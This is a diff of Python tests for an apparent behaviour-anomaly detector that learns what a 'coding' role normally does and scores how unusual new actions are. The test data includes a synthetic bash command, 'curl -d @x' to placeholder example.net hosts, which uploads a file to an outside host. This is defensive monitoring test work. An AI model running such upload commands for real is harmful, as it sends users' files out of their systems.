@@ -44,16 +44,21 @@ def test_what_one_owner_does_is_new_when_another_does_it():
     odd = learn_starter("coding", past(odd=range(4, 48, 4)))
 
     assert odd.new["out.host"] == alike.new.get("out.host", 0) + 1
-    assert max(odd.calibration.scores) > max(alike.calibration.scores)
+    assert sum(odd.calibration.scores) > sum(alike.calibration.scores) + 1
 
 
 def test_a_role_that_often_does_new_things_is_less_surprised_by_one():
     calm = Shop(learn_starter("coding", past()))
     lively_past = past()
     lively_past = [
-        one._replace(events=[*one.events, observation(bash(f"curl -d @x https://h{n}.example.net"), n * DAY_US + 10**9)])
+        one._replace(
+            events=[
+                *one.events,
+                observation(bash(f"curl -d @x https://h{n}.example.net"), n * DAY_US + 10**9),
+            ]
+        )
         for n, one in enumerate(lively_past)
-    ]  # fmt: skip
+    ]
     lively = Shop(learn_starter("coding", lively_past))
 
     bits = [shop.work([*ordinary(1), STRANGE])[1].peaks["target"] for shop in (calm, lively)]
